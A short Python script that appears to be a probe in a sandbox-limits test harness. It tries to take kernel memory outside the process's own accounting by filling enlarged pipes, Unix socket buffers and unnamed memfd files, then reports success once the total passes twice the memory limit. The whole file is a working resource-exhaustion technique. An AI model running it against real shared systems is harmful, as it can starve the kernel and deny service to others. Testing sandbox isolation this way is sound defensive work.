"""Take memory where no process holds it: in pipes, in the buffers of sockets, in files without a name."""

import fcntl
import os
import socket

from attacker import PLAN, attempt, gained, tried

F_SETPIPE_SZ = 1031
BLOCK = bytes(65536)
limit = 2 * PLAN["limits"]["memory_bytes"]
taken = 0
pipes: list[tuple[int, int]] = []
sockets = []
tried()
with attempt():
    for _ in range(60):
        pipes.append(os.pipe2(os.O_NONBLOCK))
        with attempt():
            fcntl.fcntl(pipes[-1][1], F_SETPIPE_SZ, 1 << 20)
        with attempt():
            while True:
                taken += os.write(pipes[-1][1], BLOCK)
with attempt():
    for _ in range(50):
        pair = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
        pair[0].settimeout(0)
        sockets.append(pair)
        with attempt():
            while True:
                taken += pair[0].send(BLOCK)
for number in range(40):
    with attempt():
        unnamed = os.memfd_create(f"rows-{number}")
        for _ in range(PLAN["limits"]["file_bytes"] // len(BLOCK)):
            taken += os.write(unnamed, BLOCK)
if taken > limit:
    gained(f"{taken >> 20} MiB of the kernel's memory")
